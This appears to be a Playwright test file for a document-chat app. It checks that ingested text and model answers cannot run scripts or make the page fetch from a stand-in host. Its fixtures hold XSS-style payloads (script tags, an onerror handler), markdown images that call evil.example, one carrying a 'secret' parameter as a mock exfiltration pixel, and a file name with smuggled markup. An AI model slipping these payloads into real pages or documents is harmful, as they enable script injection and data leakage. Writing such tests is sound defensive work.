@@ -1,0 +1,116 @@
+"""What documents and models may not do to a reader: fetch anything, run anything, hold a page up."""
+
+from __future__ import annotations
+
+import re
+import threading
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser.application import running
+from tests.browser.test_journey import ask, turn_to
+from tests.servers import Reply, Request, events, scripted
+from tests.ui.command import Home
+
+pytestmark = pytest.mark.browser
+
+EVIL = "http://evil.example"
+TEXT = f"""The <b>Quarry</b> Lake ![picture]({EVIL}/a.png) is <img src="{EVIL}/b.png" onerror="document.title='owned'"> deep.
+
+The Quarry Lake holds 9 metres of water. :red[See] [here]({EVIL}/c) and $x^2$ <script>document.title='owned'</script>
+
+The Quarry Lake was dug by <script>document.title='owned'</script> Edda Marsh in 1921, says {EVIL}/d.
+"""
+ANSWER = (
+    "The lake holds 9 metres of water [1]. It was dug by Napoleon in 1805 on a Tuesday [1].\n\n",
+    f"![pixel]({EVIL}/e.png?secret=9) <img src='{EVIL}/f.png'> [more]({EVIL}/g) ",
+    f"<script>document.title='owned'</script> {EVIL}/h",
+)
+
+
+def with_document(home: Home) -> Home:
+    papers = home.folder / "papers"
+    papers.mkdir()
+    (papers / f"![x]({EVIL.replace('/', '_')}) <i>lake<.txt").write_text(TEXT)
+    ran = home.run("ingest", papers)
+    assert ran.code == 0, ran
+    return home
+
+
+def model_settings(url: str) -> dict[str, str]:
+    return {"GRAPHLOOP_LLM__BASE_URL": url, "GRAPHLOOP_LLM__MODEL": "m"}
+
+
+def is_harmless(page: Page) -> None:
+    """Nothing of the text took effect; the page's watch tells of requests."""
+    assert page.title() == "Chat" or page.title() == "graphloop" or "owned" not in page.title()
+    main = page.get_by_test_id("stMain")
+    assert main.locator("[src*='evil'], [href*='evil'], [srcset*='evil']").count() == 0
+    assert main.locator("script, iframe, object, embed").count() == 0
+
+
+def test_documents_are_shown_as_they_are_written(page: Page, fresh: Home) -> None:
+    with running(with_document(fresh)) as address:
+        page.goto(address)
+        ask(page, "How much water does the Quarry Lake hold?")
+        page.get_by_role("button", name=re.compile("1 · .*lake")).click()
+        expect(page.locator(".st-key-source mark").first).to_be_visible()
+        expect(page.locator(".st-key-source")).to_contain_text(f"![picture]({EVIL}/a.png)")
+        expect(page.locator(".st-key-source")).to_contain_text("<script>")
+        page.get_by_role("radio", name="Graph").click()
+        expect(page.locator("canvas").first).to_be_visible()
+        is_harmless(page)
+        page.get_by_role("radio", name="Why these passages").click()
+        expect(page.get_by_text("found by").first).to_be_visible()
+        is_harmless(page)
+        turn_to(page, "Graph")
+        page.locator("[class*=st-key-entity] button").first.click()
+        expect(page.locator("canvas").first).to_be_visible()
+        is_harmless(page)
+
+
+def test_models_can_make_a_page_fetch_nothing(page: Page, fresh: Home) -> None:
+    def script(request: Request) -> Reply:
+        return Reply(body=events(*ANSWER), kind="text/event-stream")
+
+    with scripted(script) as server, running(with_document(fresh), model_settings(server.url)) as address:
+        page.goto(address)
+        ask(page, "How much water does the Quarry Lake hold?")
+        expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("9 metres of water")
+        expect(page.get_by_text(re.compile(r"\bverified$")).first).to_be_visible()
+        expect(page.get_by_text(re.compile(r"\bunverified$")).first).to_be_visible()
+        is_harmless(page)
+
+
+def test_a_slow_answer_can_be_stopped_and_asked_again(page: Page, fresh: Home) -> None:
+    asked = threading.Event()
+
+    def script(request: Request) -> Reply:
+        slow = not asked.is_set()
+        asked.set()
+        return Reply(body=events("It holds 9 metres of water [1]."), kind="text/event-stream", delay=90 if slow else 0)
+
+    with scripted(script) as server, running(with_document(fresh), model_settings(server.url)) as address:
+        page.goto(address)
+        ask(page, "How much water does the Quarry Lake hold?")
+        expect(page.get_by_test_id("stChatInputTextArea")).to_be_disabled()
+        asked.wait(60)
+        page.reload()
+        page.get_by_role("button", name="Stop").click()
+        expect(page.get_by_text("Stopped")).to_be_visible()
+        page.get_by_role("button", name="Ask again").click()
+        expect(page.get_by_text(re.compile(r"\bverified$")).first).to_be_visible()
+
+
+def test_a_model_that_is_not_there_is_told_in_one_line(page: Page, fresh: Home, tmp_path: Path) -> None:
+    def script(request: Request) -> Reply:
+        return Reply(401, {"error": {"message": "no such key"}})
+
+    with scripted(script) as server, running(with_document(fresh), model_settings(server.url)) as address:
+        page.goto(address)
+        ask(page, "How much water does the Quarry Lake hold?")
+        expect(page.get_by_test_id("stAlert")).to_be_visible()
+        expect(page.get_by_text("Traceback")).to_have_count(0)
+        expect(page.get_by_role("button", name="Ask again")).to_be_visible()
